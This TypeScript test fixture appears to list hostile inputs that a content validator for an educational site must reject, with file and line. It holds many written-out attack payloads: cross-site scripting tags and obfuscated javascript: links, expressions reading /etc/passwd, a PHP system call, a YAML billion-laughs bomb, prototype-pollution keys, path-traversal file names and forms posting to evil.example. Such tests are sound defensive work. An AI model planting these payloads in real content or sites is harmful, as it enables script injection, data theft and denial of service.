/** What somebody who means harm, or knows no better, could write into `content/`. Each must be refused with its file and line. */
import { coverage, helpline, lessonEn, pageEn, source, spelling, statistic, term } from './fixture.ts';
import { assessmentEn, storyEn } from './storyFixture.ts';

export interface HostileInput {
  title: string;
  file: string;
  /** What stands there in the good content, once. */
  from: string;
  to: string;
  /** Text on the line that must be named, where it is not the first line of `to`. */
  where?: string;
}

/** The only sentence of the lesson that nothing else speaks of. */
const place = 'Here is why it matters.';

function inLesson(title: string, to: string, where?: string): HostileInput {
  return { title, file: lessonEn, from: place, to, ...(where !== undefined && { where }) };
}

function inData(title: string, file: string, from: string, to: string, where?: string): HostileInput {
  return { title, file, from, to, ...(where !== undefined && { where }) };
}

const laughs = ['a0: &a0 [ha, ha, ha, ha, ha, ha, ha, ha, ha]']
  .concat(Array.from({ length: 9 }, (_, n) => `a${n + 1}: &a${n + 1} [${Array(9).fill(`*a${n}`).join(', ')}]`))
  .join('\n'); // prettier-ignore

export const hostileInputs: HostileInput[] = [
  // Code that would run while the site is built.
  inLesson('an import', `import fs from 'node:fs'`),
  inLesson('an import of a component', `import Evil from '../../../../evil.astro'`),
  inLesson('an export', `export const passwd = 1`),
  inLesson('an export from elsewhere', `export * from 'node:child_process'`),
  inLesson('an expression that reads a file', `{(await import('node:fs')).readFileSync('/etc/passwd', 'utf8')}`),
  inLesson('an expression within a sentence', `Here is {process.env.HOME} why.`),
  inLesson('an expression in a heading', `## {globalThis.process.cwd()}`),
  inLesson('an expression in a list', `- {1 + 1}`),
  inLesson('an expression in emphasis', `*{1 + 1}*`),
  inLesson('a comment of MDX', `{/* <script>alert(1)</script> */}`),
  inLesson('code that throws', `{(() => { throw new Error('no') })()}`),
  inLesson('code in an attribute', `<Say title={alert(1)}>x</Say>`),
  inLesson('attributes spread from code', `<Say {...globalThis}>x</Say>`),
  inLesson('code as an element', `<globalThis.Evil />`),
  inLesson('an element named by a member', `<Say.constructor />`),
  // Markup that would run in a browser.
  inLesson('a script', `<script>alert(1)</script>`),
  inLesson('a script of another host', `<script src="https://evil.example/x.js" />`),
  inLesson('a script in capitals', `<SCRIPT>alert(1)</SCRIPT>`),
  inLesson('a script within a word for authors', `<Say><script>alert(1)</script></Say>`),
  inLesson('a picture whose failing runs something', `<img src="x" onerror="alert(1)" />`),
  inLesson('an event on a plain element', `<p onclick="alert(1)">x</p>`),
  inLesson('an event on a word for authors', `<Say onclick="alert(1)">x</Say>`),
  inLesson('an event in strange letters', `<Say oNtOggLe="alert(1)">x</Say>`),
  inLesson('a style', `<style>body { display: none }</style>`),
  inLesson('a style on a word for authors', `<Say style="position:fixed;inset:0">x</Say>`),
  inLesson('a frame', `<iframe src="https://evil.example/" />`),
  inLesson('a frame with its page in it', `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" />`),
  inLesson('an object', `<object data="evil.swf" />`),
  inLesson('an embedded file', `<embed src="evil.swf" />`),
  inLesson('a drawing that runs something', `<svg onload="alert(1)" />`),
  inLesson('a drawing with a link', `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`),
  inLesson('a formula that runs something', `<math><mtext><img src="x" onerror="alert(1)" /></mtext></math>`),
  inLesson('a form that sends what is typed', `<form action="https://evil.example/"><input name="q" /></form>`),
  inLesson('a base for all addresses', `<base href="https://evil.example/" />`),
  inLesson('a page that moves on', `<meta http-equiv="refresh" content="0;url=https://evil.example/" />`),
  inLesson('a sheet of another host', `<link rel="stylesheet" href="https://evil.example/x.css" />`),
  inLesson('a template', `<template><script>alert(1)</script></template>`),
  inLesson('a video', `<video src="x" onerror="alert(1)" />`),
  inLesson('an island of ours', `<div data-island="search" data-props="{}" />`),
  inLesson('an island of Astro', `<astro-island component-url="https://evil.example/x.js" />`),
  inLesson('a fragment of Astro that sets markup', `<Fragment set:html="<script>alert(1)</script>" />`),
  inLesson('a directive of Astro on a word for authors', `<Say client:load="true">x</Say>`),
  inLesson('a comment of HTML', `<!-- <script>alert(1)</script> -->`),
  inLesson('a tag without a name', `<>x</>`),
  inLesson('a word that JavaScript knows', `<constructor />`),
  inLesson('the name of all prototypes', `<__proto__ />`),
  inLesson('an attribute that JavaScript knows', `<Say __proto__="x">x</Say>`),
  inLesson('an attribute twice', `<Fact source="dh" source="evil">x</Fact>`),
  // It is missed only where the next block begins.
  inLesson('a tag that is not closed', `<Say\n\n## Next`, '## Next'),
  inLesson('an instruction', `<?php system('id') ?>`),
  inLesson('a document type', `<!DOCTYPE html>`),
  // Ways out of the site.
  inLesson('a link that runs something', `[x](javascript:alert(1))`),
  inLesson('… in capitals', `[x](JaVaScRiPt:alert(1))`),
  inLesson('… behind an entity', `[x](javascript&colon;alert(1))`),
  inLesson('… behind a number', `[x](&#106;avascript:alert(1))`),
  inLesson('… behind a tab', `[x](java&#9;script:alert(1))`),
  inLesson('… behind a sign that nobody sees', `[x](&#1;javascript:alert(1))`),
  inLesson('… escaped', `[x](javascript\\:alert(1))`),
  inLesson('… between angle brackets', `[x](<javascript:alert(1)>)`),
  inLesson('… with a title', `[x](javascript:alert(1) "Help")`),
  inLesson('… by reference', `[x][evil]\n\n[evil]: javascript:alert(1)`),
  inLesson('… by its own name', `[evil]\n\n[evil]: javascript:alert(1)`),
  inLesson('a link to a page of its own', `[x](data:text/html;base64,PHNjcmlwdD4=)`),
  inLesson('a link that runs Basic', `[x](vbscript:msgbox(1))`),
  inLesson('a link to a file', `[x](file:///etc/passwd)`),
  inLesson('a link to another site', `[x](https://evil.example/)`),
  inLesson('a link to another site without a scheme', `[x](//evil.example/)`),
  inLesson('a link to another site with slashes turned', `[x](/\\\\evil.example/)`),
  inLesson('a link above the site', `[x](/km/../../etc/passwd)`),
  inLesson('a link in angle brackets', `<https://evil.example/>`),
  inLesson('a bare address, which the build makes a link', `See https://evil.example/ for more.`),
  inLesson('a bare name, which the build makes a link', `See www.evil.example for more.`),
  inLesson('a bare mail address, which the build makes a link', `Write to me@evil.example now.`),
  inLesson('a footnote', `Here[^1] it is.\n\n[^1]: javascript:alert(1)`, '[^1]: java'),
  inLesson('a picture of another host', `![x](https://evil.example/pixel.gif)`),
  inLesson('a picture in the text', `![x](data:image/svg+xml;base64,PHN2Zz4=)`),
  inLesson('a picture that breaks out of its words', `![x" onerror="alert(1)](x.png)`),
  inLesson('a picture by reference', `![x][pixel]\n\n[pixel]: https://evil.example/pixel.gif`),
  inLesson('a block of code', '```js\nalert(1)\n```'),
  { title: 'a word of lessons in a page', file: pageEn, from: '<KeyPoint>', to: '<KeyPoint onclick="alert(1)">' },
  // Data of lessons.
  inData('a script in a title', lessonEn, 'title: A calm afternoon\n', 'title: </title><script>alert(1)</script>\n'),
  inData('a script in a summary', lessonEn, 'summary: Three steps that help.', 'summary: "</script><script>alert(1)</script>"'),
  inData('… behind an escape', lessonEn, 'summary: Three steps that help.', 'summary: "\\x3Cimg src=x onerror=alert(1)\\x3E"'),
  inData('a picture in an option', lessonEn, 'text: Pay a little', 'text: <img src=x onerror=alert(1)>'),
  inData('markup in a block of text', lessonEn, 'summary: Three steps that help.', 'summary: |\n  Three\n  <b>steps</b>', 'summary: |'),
  inData('an address that runs something, in a text', lessonEn, 'summary: Three steps that help.', 'summary: "java\\tscript:alert(1)"'),
  inData('a layout, which Astro would load', lessonEn, 'minutes: 30', 'layout: ../../../evil.astro\nminutes: 30', 'layout:'),
  inData('an id that breaks out of its attribute', lessonEn, '- id: pay\n', `- id: 'pay" onclick="alert(1)'\n`),
  inData('an id that names a place above', lessonEn, '- id: pay\n', '- id: ../../pay\n'),
  inData('an id that JavaScript knows', lessonEn, '- id: pay\n', '- id: __proto__\n'),
  inData('a source that names a place above', lessonEn, 'sources: [dh]', 'sources: [../dh]'),
  inData('a field that JavaScript knows', lessonEn, 'minutes: 30', '__proto__: { isAdmin: true }\nminutes: 30', '__proto__'),
  inData('a field constructor', lessonEn, 'minutes: 30', 'constructor: { prototype: {} }\nminutes: 30', 'constructor'),
  inData('a field twice', lessonEn, 'minutes: 30', 'minutes: 30\nminutes: 40', 'minutes: 40'),
  inData('a function', lessonEn, 'summary: Three steps that help.', `summary: !!js/function 'function () { return process.env }'`),
  inData('a tag of its own', lessonEn, 'summary: Three steps that help.', 'summary: !include /etc/passwd'),
  inData('bytes', lessonEn, 'summary: Three steps that help.', 'summary: !!binary PHNjcmlwdD4='),
  inData('an anchor', lessonEn, 'summary: Three steps that help.', 'summary: &evil Three steps that help.'),
  inData('a few lines that grow into millions', lessonEn, 'minutes: 30', `${laughs}\nminutes: 30`, 'a0: &a0'),
  inData('fields merged from elsewhere', lessonEn, 'minutes: 30', '<<: { draft: true }\nminutes: 30', '<<:'),
  inData('a field named by a list', lessonEn, 'minutes: 30', '? [a, b]\n: 1\nminutes: 30', '? [a'),
  inData('ten thousand brackets', lessonEn, 'summary: Three steps that help.', `summary: ${'['.repeat(10_000)}`),
  inData('a byte order mark before everything', lessonEn, '---\ntitle: A calm', '\uFEFF---\ntitle: A calm'),
  inData('TOML, which Astro would read', lessonEn, '---\ntitle: A calm afternoon', '+++\ntitle: A calm afternoon'),
  inData('a letter that ends texts in some languages', lessonEn, 'text: Pay a little', 'text: "Pay \\0 a little"'),
  inData('marks that turn text around', lessonEn, 'text: Pay a little', 'text: "Pay \u202E elttil a"'),
  inData('letters that nobody sees', lessonEn, 'text: Pay a little', 'text: "Pay \u{E0041} a little"'),
  // Other files.
  inData('a script in a story', storyEn, 'text: You look pale.', 'text: <script>alert(1)</script>'),
  inData('a scene that names another page', storyEn, 'to: room,', 'to: "//evil.example",'),
  inData('a script in an assessment', assessmentEn, 'text: Say the three steps in order.', 'text: <script>alert(1)</script>'),
  inData('a script in a term', term, 'definition: When someone', 'definition: <script>alert(1)</script> When someone'),
  inData('a script in a note of a term', term, 'note: A reviewer', 'note: <script>alert(1)</script> A reviewer'),
  inData('a number that runs something', helpline, `phone: '1280'`, `phone: 'javascript:alert(1)'`),
  inData('an address that runs something', helpline, 'url: https://helpline.example', 'url: javascript:alert(1)'),
  inData('an address without encryption', helpline, 'url: https://helpline.example', 'url: http://helpline.example'),
  inData('the address of a source that runs something', source, 'year: 2022', 'url: javascript:alert(1)\nyear: 2022', 'url:'),
  inData('a tag in the name of an owner', helpline, 'owner: The content team', 'owner: <img src=x onerror=alert(1)>'),
  inData('a script in the words of a figure', statistic, '{ en: Were threatened online,', '{ en: <script>alert(1)</script>,'),
  inData('an expression that never ends, as a spelling', spelling, '- right: មនុស្ស', '- right: (a+)+$'),
  inData('an objective above the course', coverage, 'students/7#steps', '../../7#steps'),
  inData('two documents in one', term, 'note: A reviewer', '---\nen: {}\nnote: A reviewer', '---'),
  inData('another version of YAML', term, 'en:\n  term: grooming', '%YAML 1.1\n---\nen:\n  term: grooming', '%YAML'),
]; // prettier-ignore

/** Names that no file of content may have. */
export const hostileNames = [
  'glossary/../../evil.yaml',
  'glossary/x" onclick="alert(1).yaml',
  'glossary/<script>.yaml',
  'glossary/a b.yaml',
  'glossary/.hidden.yaml',
  'sources/javascript:alert(1).yaml',
  'helplines/កុមារ.yaml',
  'en/students/7-<img src=x>.mdx',
  'en/students/../pages/about.mdx',
  'en/evil/07-calm.mdx',
  'en/students/deep/07-calm.mdx',
  'evil.yaml',
  'src/evil.yaml',
];

/** Tables: what to write in place of a row, and which of its lines must be named. */
export const hostileTables = [
  ['a script', 'J67,21,children,992,children,<script>alert(1)</script>,DH 2.2.1', 2],
  ['an address that runs something', 'J67,21,children,992,javascript:alert(1),Threatened,DH 2.2.1', 2],
  ['a number that is none', 'J67,many,children,992,children,Threatened online,DH 2.2.1', 2],
  ['a number without end', 'J67,1e999,children,992,children,Threatened online,DH 2.2.1', 2],
  ['a field too many', 'J67,21,children,992,children,Threatened online,DH 2.2.1,evil', 2],
  ['a quotation that never ends', 'J67,21,children,992,children,"Threatened online,DH 2.2.1', 3],
] as const;
